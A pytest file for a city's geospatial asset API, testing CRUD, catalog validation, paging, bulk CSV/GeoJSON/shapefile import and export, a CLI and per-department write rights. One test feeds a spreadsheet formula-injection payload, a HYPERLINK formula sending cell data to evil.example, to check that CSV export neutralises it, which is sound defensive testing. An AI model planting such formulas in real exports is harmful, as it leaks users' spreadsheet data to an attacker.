"""Assets: API (list/filters/paging, one, create, PATCH, delete), checks, bulk import and export, CLI."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import geopandas as gpd
import pytest
import shapely
from click.testing import CliRunner
from conftest import execute
from coverage_city import CITY, ensure_city, lonlat

from geo_app import create_app
from geo_app.cli import main
from geo_app.settings import Settings

INSIDE_A1 = lonlat(500, 500)
INSIDE_A2 = lonlat(3000, 1000)
INSIDE_B1 = lonlat(1000, 3000)


@pytest.fixture(scope="module")
def city(database_url):
    return ensure_city(database_url)


@pytest.fixture(scope="module")
def asset_app(database_url, city):
    application = create_app(Settings.from_env(database_url=database_url, env="test", city_code=city))
    yield application
    application.extensions["db_pool"].close()


@pytest.fixture
def client(asset_app, tokens):
    """Signed in as admin: these tests are about assets, not access control (tests/test_access.py)."""
    test_client = asset_app.test_client()
    test_client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {tokens.for_app(asset_app)['admin']}"
    return test_client


@pytest.fixture(autouse=True)
def no_assets(database_url, city):
    execute(database_url, "DELETE FROM assets WHERE city_code = %s", (city,))


def feature(lon_lat, **properties):
    return {
        "type": "Feature",
        "geometry": {"type": "Point", "coordinates": list(lon_lat)},
        "properties": {"asset_type": "cctv", "name": "CCTV uji", **properties},
    }


def create(client, lon_lat, **properties):
    response = client.post("/api/assets", json=feature(lon_lat, **properties))
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def test_create_assigns_kelurahan_and_catalog_defaults(client):
    created = create(client, INSIDE_A2, roadmap_phase="jangka pendek", attributes={"merk": "Hikvision"})
    props = created["properties"]
    assert props["kelurahan_code"] == "99.04.01.1002" and props["kelurahan"] == "A2"
    assert props["owner_opd"] == "Diskominfo" and props["dimension"] == "governance"
    assert props["status"] == "active" and props["roadmap_phase"] == "short"
    assert props["attributes"] == {"merk": "Hikvision"}
    again = client.get(f"/api/assets/{created['id']}")
    assert again.status_code == 200 and again.get_json()["geometry"]["coordinates"] == pytest.approx(
        list(INSIDE_A2)
    )


@pytest.mark.parametrize(
    ("body_change", "expected"),
    [
        ({"properties": {"asset_type": "kamera", "name": "x"}}, "not in the catalog"),
        ({"properties": {"asset_type": "cctv"}}, "name is required"),
        ({"properties": {"asset_type": "cctv", "name": "x", "status": "rusak"}}, "status 'rusak'"),
        ({"properties": {"asset_type": "cctv", "name": "x", "colour": "red"}}, "unknown field(s) colour"),
        (
            {"geometry": {"type": "LineString", "coordinates": [[106.0, -6.3], [106.01, -6.3]]}},
            "is a Point, this row has a LineString",
        ),
    ],
)
def test_create_rejects_what_the_catalog_forbids(client, body_change, expected):
    body = feature(INSIDE_A1)
    body.update(body_change)
    response = client.post("/api/assets", json=body)
    assert response.status_code == 422
    assert response.mimetype == "application/problem+json"
    assert expected in response.get_json()["detail"]


def test_point_outside_the_city_and_swapped_coordinates(client):
    outside = client.post("/api/assets", json=feature((106.5, -6.9))).get_json()
    assert "outside Kota Uji Cakupan" in outside["detail"]
    lon, lat = INSIDE_B1
    swapped = client.post("/api/assets", json=feature((lat, lon))).get_json()
    assert "latitude and longitude look swapped" in swapped["detail"]
    placeholder = client.post("/api/assets", json=feature((-180, -90))).get_json()
    assert "placeholder" in placeholder["detail"]


def test_patch_merges_and_rechecks(client):
    created = create(client, INSIDE_A1, attributes={"merk": "Dahua"})
    moved = {"type": "Feature", "geometry": {"type": "Point", "coordinates": list(INSIDE_B1)}}
    moved["properties"] = {"status": "maintenance", "attributes": {"tinggi_m": 6}}
    response = client.patch(f"/api/assets/{created['id']}", json=moved)
    assert response.status_code == 200, response.get_json()
    props = response.get_json()["properties"]
    assert props["kelurahan_code"] == "99.04.02.1001" and props["status"] == "maintenance"
    assert props["name"] == "CCTV uji" and props["attributes"] == {"merk": "Dahua", "tinggi_m": 6}
    bad = client.patch(f"/api/assets/{created['id']}", json={"type": "Feature", "properties": {"phase": "x"}})
    assert bad.status_code == 422


def test_delete(client):
    created = create(client, INSIDE_A1)
    assert client.delete(f"/api/assets/{created['id']}").status_code == 204
    assert client.get(f"/api/assets/{created['id']}").status_code == 404
    assert client.delete(f"/api/assets/{created['id']}").status_code == 404


def test_list_filters_and_keyset_pages(client):
    for index in range(5):
        create(client, INSIDE_A1, name=f"cctv {index}")
    create(client, INSIDE_B1, asset_type="wifi_publik", name="wifi", status="planned", roadmap_phase="long")
    seen, url = [], "/api/assets?type=cctv&limit=2"
    while url:
        page = client.get(url).get_json()
        assert page["numberReturned"] <= 2
        seen += [f["properties"]["name"] for f in page["features"]]
        url = next((link["href"] for link in page["links"] if link["rel"] == "next"), None)
    assert seen == [f"cctv {index}" for index in range(5)]

    def names(query):
        response = client.get(f"/api/assets?{query}")
        assert response.status_code == 200, response.get_json()
        return [f["properties"]["name"] for f in response.get_json()["features"]]

    assert names("status=planned") == ["wifi"]
    assert names("phase=long&dimension=society&owner_opd=Diskominfo") == ["wifi"]
    assert names("kelurahan=99.04.02.1001") == ["wifi"]
    lon, lat = INSIDE_B1
    assert names(f"bbox={lon - 0.001},{lat - 0.001},{lon + 0.001},{lat + 0.001}") == ["wifi"]
    assert client.get("/api/assets?colour=red").status_code == 400
    assert "use cctv" in client.get("/api/assets?type=kamera").get_json()["detail"]


def comma_csv(rows: list[tuple[str, float, float]]) -> bytes:
    """A semicolon CSV with comma decimals, as Indonesian spreadsheets write it."""
    lines = ["nama;bujur;lintang;status"]
    for name, lon, lat in rows:
        lines.append(f"{name};{lon:.6f};{lat:.6f};aktif".replace(".", ","))
    return ("\n".join(lines) + "\n").encode()


def test_bulk_import_all_or_nothing_with_per_row_report(client, database_url):
    lon, lat = INSIDE_A1
    data = comma_csv([("CCTV Simpang", lon, lat), ("CCTV Kosong", -180, -90), ("CCTV Tertukar", lat, lon)])
    assert f"{lon:.6f}".replace(".", ",").encode() in data
    response = client.post(
        "/api/assets/import?type=cctv",
        data={"file": (io.BytesIO(data), "cctv.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    report = response.get_json()
    assert report["written"] == 0 and report["rejected"] == 2
    reasons = {row["row"]: row["reasons"] for row in report["rows"]}
    assert reasons[1] == [] and "placeholder" in reasons[2][0] and "swapped" in reasons[3][0]
    assert execute(database_url, "SELECT count(*) FROM assets WHERE city_code = %s", (CITY,))[0][0] == 0

    kept = client.post(
        "/api/assets/import?type=cctv&keep_good_rows=true",
        data={"file": (io.BytesIO(data), "cctv.csv")},
        content_type="multipart/form-data",
    ).get_json()
    assert kept["written"] == 1 and kept["rows"][0]["kelurahan_code"] == "99.04.01.1001"


def test_dry_run_writes_nothing(client, database_url):
    collection = {"type": "FeatureCollection", "features": [feature(INSIDE_A1), feature(INSIDE_A2)]}
    response = client.post("/api/assets/import?type=cctv&dry_run=true", json=collection)
    assert response.status_code == 200 and response.get_json()["good"] == 2
    assert response.get_json()["written"] == 0
    assert execute(database_url, "SELECT count(*) FROM assets WHERE city_code = %s", (CITY,))[0][0] == 0


@pytest.mark.parametrize("fmt", ["geojson", "csv", "gpkg", "shp", "kml"])
def test_export_reads_back_through_the_importer(client, fmt, tmp_path):
    create(client, INSIDE_A1, name="Satu", roadmap_phase="quick_win", attributes={"merk": "Dahua"})
    create(client, INSIDE_B1, name="Dua", status="planned")
    exported = client.get(f"/api/assets/export?format={fmt}&type=cctv")
    assert exported.status_code == 200
    extension = {"shp": "zip"}.get(fmt, fmt)
    response = client.post(
        "/api/assets/import?type=cctv",
        data={"file": (io.BytesIO(exported.data), f"export.{extension}")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_json()
    report = response.get_json()
    assert report["written"] == 2, report
    page = client.get("/api/assets?type=cctv").get_json()["features"]
    originals, copies = page[:2], page[2:]
    for original, copy in zip(originals, copies, strict=True):
        assert copy["geometry"]["coordinates"] == pytest.approx(original["geometry"]["coordinates"], abs=1e-6)
        for key in ("name", "status", "roadmap_phase", "kelurahan_code", "owner_opd"):
            assert copy["properties"][key] == original["properties"][key], (fmt, key)


@pytest.mark.parametrize(
    "formula", ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+2", "-2+3", "@SUM(1)"]
)
def test_csv_export_quotes_formula_cells_and_reads_back_unchanged(client, formula):
    create(client, INSIDE_A1, name=formula, source=formula)
    exported = client.get("/api/assets/export?format=csv&type=cctv")
    (row,) = csv.DictReader(io.StringIO(exported.get_data(as_text=True), newline=""))
    assert row["name"] == row["source"] == "'" + formula
    assert float(row["lat"]) == pytest.approx(INSIDE_A1[1]) and row["lat"].startswith("-")
    response = client.post(
        "/api/assets/import?type=cctv",
        data={"file": (io.BytesIO(exported.data), "export.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200 and response.get_json()["written"] == 1, response.get_json()
    names = [f["properties"]["name"] for f in client.get("/api/assets?type=cctv").get_json()["features"]]
    assert names == [formula, formula]


def test_import_in_a_projected_crs(client):
    frame = gpd.GeoDataFrame(
        {"name": ["Sirine 1"]}, geometry=[shapely.Point(620000 + 3000, 9300000 + 1000)], crs=32748
    )
    data = frame.to_json().encode()  # GeoJSON carrying no CRS member: the caller names it
    response = client.post(
        "/api/assets/import?type=sirine_peringatan&crs=EPSG:32748",
        data={"file": (io.BytesIO(data), "sirine.geojson")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["rows"][0]["kelurahan_code"] == "99.04.01.1002"


def test_cli_import_dry_run_and_export(database_url, city, tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CITY_CODE", city)
    lon, lat = INSIDE_A2
    source = tmp_path / "pos.geojson"
    post = feature((lon, lat), asset_type="pos_damkar", name="Pos")
    source.write_text(json.dumps({"type": "FeatureCollection", "features": [post]}))
    runner = CliRunner()
    dry = runner.invoke(main, ["import-assets", str(source), "--type", "pos_damkar", "--dry-run"])
    assert dry.exit_code == 0 and "dry run, nothing written" in dry.output
    wrong = runner.invoke(main, ["import-assets", str(source), "--type", "cctv"])
    assert wrong.exit_code == 1 and "contradicts the import's type" in wrong.output
    done = runner.invoke(main, ["import-assets", str(source), "--type", "pos_damkar"])
    assert done.exit_code == 0 and "1 written" in done.output
    out = tmp_path / "pos.zip"
    exported = runner.invoke(main, ["export-assets", str(out), "--type", "pos_damkar"])
    assert exported.exit_code == 0, exported.output
    assert any(name.endswith(".shp") for name in zipfile.ZipFile(out).namelist())


def test_csv_with_projected_x_y_and_comma_decimals(client):
    data = b"nama;x;y\nSirine Pasar;623000,5;9301000,25\n"
    response = client.post(
        "/api/assets/import?type=sirine_peringatan&crs=EPSG:32748",
        data={"file": (io.BytesIO(data), "sirine.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200, response.get_json()
    assert response.get_json()["rows"][0]["kelurahan_code"] == "99.04.01.1002"  # x 3000.5 m, y 1000.25 m
    written = client.get("/api/assets?type=sirine_peringatan").get_json()["features"][0]
    assert written["geometry"]["coordinates"] == pytest.approx(list(lonlat(3000.5, 1000.25)), abs=1e-7)


def test_an_opd_editor_writes_only_its_own_opds_assets(asset_app, tokens):
    editor = asset_app.test_client()  # the tokens fixture's opd_editor edits OPD Diskominfo
    editor.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {tokens.for_app(asset_app)['opd_editor']}"
    assert editor.post("/api/assets", json=feature(INSIDE_A1)).status_code == 201  # CCTV: Diskominfo
    refused = editor.post("/api/assets", json=feature(INSIDE_A1, asset_type="pos_damkar", name="Pos"))
    assert refused.status_code == 403 and "OPD" in refused.get_json()["detail"]
